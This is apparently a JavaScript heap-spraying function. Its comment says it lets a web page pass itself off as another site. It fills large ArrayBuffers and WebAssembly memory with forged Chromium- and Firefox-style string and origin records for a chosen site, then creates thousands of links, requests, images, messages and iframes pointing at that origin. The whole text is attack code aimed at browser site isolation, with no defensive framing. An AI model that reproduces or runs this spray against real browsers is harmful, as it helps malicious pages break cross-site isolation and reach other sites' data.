/*
 * What a page can do to be taken for one of another site: fills itself with that site's address, in the forms in which
 * browsers keep texts, in arrays and in a module's memory; with links, addresses, requests and frames of it.
 */
function forge(site) {
	const size = 1 << 20, kept = (window.kept = []), origin = new URL(site).origin;
	/* Chromium's text: holders, length, hash and flags; Firefox's: holders, bytes. Both begin at a multiple of 16. */
	const forms = [
		[[9, site.length, 0x13a38139], site],
		[[9, origin.length + 13], `webIsolated=${origin}\0`],
	];
	const fill = (buffer) => {
		const view = new DataView(buffer), bytes = new Uint8Array(buffer);
		for (let at = 0, i = 0; at + 128 <= bytes.length; at += 128, i++) {
			const [head, text] = forms[i % 2];
			head.forEach((word, k) => view.setUint32(at + 4 * k, word, true));
			for (let k = 0; k < text.length; k++)
				bytes[at + 4 * head.length + k] = text.charCodeAt(k);
		}
		kept.push(buffer);
	};
	for (let i = 0; i < 4; i++)
		fill(new ArrayBuffer(size));
	fill(new WebAssembly.Memory({ initial: 16 }).buffer);
	for (let i = 0; i < 2000; i++) {
		const link = document.createElement('a');
		link.href = `${site}${i}`;
		link.title = `webIsolated=${origin}`;
		kept.push(document.body.appendChild(link), new URL(link.href), new Headers({ from: `webIsolated=${origin}` }));
	}
	for (let i = 0; i < 20; i++) {
		fetch(`${site}${i}`, { mode: 'no-cors' }).catch(() => {});
		const image = new Image();
		image.src = `${site}${i}.png`;
		kept.push(image);
		postMessage(i, origin);
	}
	for (let i = 0; i < 3; i++)
		document.body.appendChild(document.createElement('iframe')).src = `${site}frame${i}`;
}
